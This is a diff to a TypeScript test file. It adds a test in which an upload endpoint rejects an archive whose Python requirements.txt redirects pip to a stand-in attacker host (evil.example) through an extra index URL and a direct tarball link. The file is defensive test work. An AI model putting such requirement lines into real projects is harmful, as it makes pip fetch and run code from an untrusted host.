@@ -1,4 +1,4 @@
-import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
+import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { getQueueToken } from '@nestjs/bullmq';
@@ -122,6 +122,39 @@ describe('runtimes and versions over GraphQL and the upload endpoint', () => {
         'archive["src/make-greeting/package-lock.json"].packages["node_modules/x"]',
       ]),
     );
+    expect(await h.connection().collection('krt_chunks').countDocuments({})).toBe(0);
+  });
+
+  it('refuses a KRT whose Python requirements point pip elsewhere, naming the file and line', async () => {
+    const dir = join(work, 'python-requirements');
+    await cp('examples/greeter', dir, { recursive: true });
+    const manifest = join(dir, 'kre.yaml');
+    await writeFile(
+      manifest,
+      (await readFile(manifest, 'utf8'))
+        .replace('version: greeter-v1', 'version: greeter-py-v1')
+        .replace(
+          'image: kre/runner-node:latest\n    src: src/make-greeting/handler.mjs',
+          'image: konstellation/kre-py:v2.1.5\n    src: src/make-greeting/main.py',
+        ),
+    );
+    await writeFile(
+      join(dir, 'src/make-greeting/main.py'),
+      'async def handler(ctx, data):\n    return data\n',
+    );
+    await writeFile(
+      join(dir, 'src/make-greeting/requirements.txt'),
+      'protobuf==3.20.1\n--extra-index-url https://evil.example/simple\nlib @ https://evil.example/lib.tar.gz\n',
+    );
+    const krt = join(work, 'python-requirements.krt');
+    await create({ gzip: true, file: krt, cwd: dir, portable: true }, ['.']);
+    const response = await upload('rt-one', krt, asAdmin());
+    expect(response.status).toBe(422);
+    const body = (await response.json()) as { errors: { path: string; message: string }[] };
+    expect(body.errors.map((e) => [e.path, e.message.split(':')[0]])).toEqual([
+      ['archive["src/make-greeting/requirements.txt"]', 'line 2 "--extra-index-url https'],
+      ['archive["src/make-greeting/requirements.txt"]', 'line 3 "lib @ https'],
+    ]);
     expect(await h.connection().collection('krt_chunks').countDocuments({})).toBe(0);
   });
 
